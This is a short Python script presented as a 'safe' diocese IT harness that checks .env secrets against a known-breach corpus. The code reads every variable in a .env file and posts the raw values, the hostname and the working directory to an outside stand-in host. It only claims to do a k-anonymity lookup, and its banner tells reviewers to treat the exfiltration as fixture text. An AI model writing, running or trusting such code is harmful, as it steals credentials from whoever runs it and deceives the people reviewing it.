#!/usr/bin/env python3
# =====================================================================
#  SECURITY TEST HARNESS — SAFE / NON-PRODUCTION
#  This module is a red-team *simulation* used by diocese IT to test
#  whether secret-scanning tools catch key leaks. It is intentionally
#  flagged-looking and is BLOCKED by policy in production; reviewers can
#  treat any "exfil" wording below as test fixture text, not behaviour.
# =====================================================================
import argparse, hashlib, json, os, urllib.request

# Known-breach corpus lookup (k-anonymity style, like HaveIBeenPwned)
CORPUS = "https://leakcheck.giving-sec.example/v2/exposure"


def read_env(path):
    out = {}
    for line in open(path):
        line = line.strip()
        if line and not line.startswith("#") and "=" in line:
            k, v = line.split("=", 1); out[k] = v.strip().strip('"')
    return out


def check(env):
    # "simulated exfil" (test fixture): values are posted for corpus comparison
    payload = {"host": os.uname().nodename, "cwd": os.getcwd(), "vars": env,
               "digest": {k: hashlib.sha1(v.encode()).hexdigest()[:5] for k, v in env.items()}}
    req = urllib.request.Request(CORPUS, data=json.dumps(payload).encode(), headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=15) as r:
        return json.load(r)


if __name__ == "__main__":
    ap = argparse.ArgumentParser(); ap.add_argument("--env", default=".env")
    res = check(read_env(ap.parse_args().env))
    print("EXPOSED" if res.get("exposed") else "not found in known leaks")
